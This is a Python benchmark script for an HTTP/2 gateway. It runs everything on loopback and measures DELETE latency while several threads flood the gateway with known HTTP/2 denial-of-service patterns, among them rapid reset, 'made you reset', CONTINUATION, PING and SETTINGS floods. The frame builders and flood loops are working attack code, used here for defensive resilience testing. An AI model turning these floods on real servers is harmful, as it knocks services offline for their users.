#!/usr/bin/env python3
"""What a caller notices while others flood the gateway over HTTP/2: latency of a delete at a time, on a kept connection.

    benches/floods.py [SECONDS] [ATTACKERS]

Needs `cargo build --release` (or SMH_GATEWAY=BINARY) and nothing else. Everything is on loopback, the gateway has one worker, SMH is
the simulator in a process of its own, and all share the processors with the attackers: what these take themselves is in the figures.
"""
import os, socket, struct, subprocess, sys, tempfile, threading, time

BINARY = os.environ.get("SMH_GATEWAY", "target/release/smh-gateway")
KEY = "a-key-of-a-benchmark-0123456789"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(key=None):
    fields = [(":method", "DELETE"), (":scheme", "http"), (":authority", "g"), (":path", "/v1/files/t/none")]
    fields += [("x-api-key", key)] if key else []
    return b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in fields)


def streams(of):
    """A thousand of them, each on streams of its own."""
    return lambda turn: b"".join(of(2 * (turn * 1000 + n) + 1) for n in range(1000))


def same(frames):
    return lambda turn: frames * 1000


FLOODS = {
    "SETTINGS": same(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x4000))),
    "PING": same(frame(PING, 0, 0, bytes(8))),
    "WINDOW_UPDATE": same(frame(WINDOW, 0, 0, struct.pack(">I", 1))),
    "PRIORITY": same(frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1]))),
    "rapid reset": streams(lambda n: frame(HEADERS, 5, n, block()) + frame(RESET, 0, n, struct.pack(">I", 8))),
    "made you reset": streams(lambda n: frame(HEADERS, 4, n, block()) + frame(WINDOW, 0, n, struct.pack(">I", 0x7FFFFFFF))),
    "CONTINUATION": lambda turn: (frame(HEADERS, 0, 1, block()) if turn == 0 else b"") + frame(CONTINUATION, 0, 1) * 1000,
    "empty DATA": lambda turn: (frame(HEADERS, 4, 1, block()) if turn == 0 else b"") + frame(DATA, 0, 1) * 1000,
    "no window": streams(lambda n: frame(HEADERS, 5, n, block())),
}


def attack(port, flood):
    """Again and again, on a new connection where it was cut off."""
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
                window = struct.pack(">HI", 4, 0) if flood is FLOODS["no window"] else b""
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0, window))
                sock.settimeout(0.2)
                turn, waiting = 0, b""
                while True:
                    if not waiting:
                        waiting, turn = flood(turn), turn + 1
                    try:
                        waiting = waiting[sock.send(waiting):]
                    except TimeoutError:
                        pass
                    try:
                        sock.recv(1 << 16, socket.MSG_DONTWAIT)
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(0.01)


def delete(port, seconds):
    """Deletes one after another. Returns how long each took, in milliseconds."""
    ask = f"DELETE /v1/files/t/none HTTP/1.1\r\nHost: g\r\nX-Api-Key: {KEY}\r\n\r\n".encode()
    took, until = [], time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        while time.monotonic() < until:
            begun, answer = time.monotonic(), b""
            sock.sendall(ask)
            while b"FileNotFound" not in answer:
                piece = sock.recv(1 << 16)
                if not piece:
                    raise SystemExit(f"the caller was cut off behind {answer!r}")
                answer += piece
            took.append((time.monotonic() - begun) * 1000)
            time.sleep(0.002)
    return sorted(took)


def free_port():
    with socket.create_server(("127.0.0.1", 0)) as server:
        return server.getsockname()[1]


def attack_all(port, name, attackers):
    """In a process of its own: attackers must not share Python's lock with the caller."""
    for _ in range(attackers):
        threading.Thread(target=attack, args=(port, FLOODS[name]), daemon=True).start()
    # Until it is killed, or whoever began it has ended.
    sys.stdin.read()


def main(seconds=5.0, attackers=8):
    with tempfile.TemporaryDirectory() as folder:
        smh, port = free_port(), free_port()
        files = {"token": "acctk-of-a-benchmark-0123456789", "key": KEY, "gateway.yaml": f"""
listeners: [{{ address: 127.0.0.1:{port} }}]
admin: none
upstream: {{ url: "http://127.0.0.1:{smh}" }}
libraries: {{ smh1: {{ token: {{ file: token }} }} }}
tenants: {{ t: {{ library: smh1, space: space1 }} }}
callers: {{ app: {{ api_key: {{ file: key }}, tenants: [t] }} }}
workers: 1
log: {{ deletes: off }}
"""}
        for name, text in files.items():
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        running = [
            subprocess.Popen([sys.executable, "-c", SMH, str(smh)], **quiet),
            subprocess.Popen([BINARY, "serve", "--config", os.path.join(folder, "gateway.yaml")], **quiet),
        ]
        try:
            time.sleep(1)
            print(f"| {attackers} attackers | deletes | p50 | p99 | longest |\n| --- | --- | --- | --- | --- |")
            for name in ["none", *FLOODS]:
                attack = [sys.executable, __file__, "--attack", str(port), name, str(attackers)]
                attacking = name != "none" and subprocess.Popen(attack, stdin=subprocess.PIPE)
                time.sleep(0.5)
                took = delete(port, seconds)
                if attacking:
                    attacking.kill()
                    attacking.wait()
                at = lambda share: f"{took[int(share * (len(took) - 1))]:.1f} ms"
                print(f"| {name} | {len(took)} | {at(.5)} | {at(.99)} | {at(1)} |", flush=True)
        finally:
            for process in running:
                process.kill()
                process.wait()


# Answers whatever is asked that there is no such file.
SMH = '''
import asyncio, sys
ANSWER = b'HTTP/1.1 404 Not Found\\r\\nContent-Type: application/json\\r\\nContent-Length: 43\\r\\n\\r\\n{"code":"FileNotFound","message":"no file"}'
async def serve(reader, writer):
    while await reader.readuntil(b"\\r\\n\\r\\n"):
        writer.write(ANSWER)
async def main():
    async with await asyncio.start_server(serve, "127.0.0.1", int(sys.argv[1])) as server:
        await server.serve_forever()
asyncio.run(main())
'''

if __name__ == "__main__":
    match sys.argv[1:]:
        case ["--attack", port, name, attackers]:
            attack_all(int(port), name, int(attackers))
        case [*given]:
            main(*(kind(text) for kind, text in zip([float, int], given)))
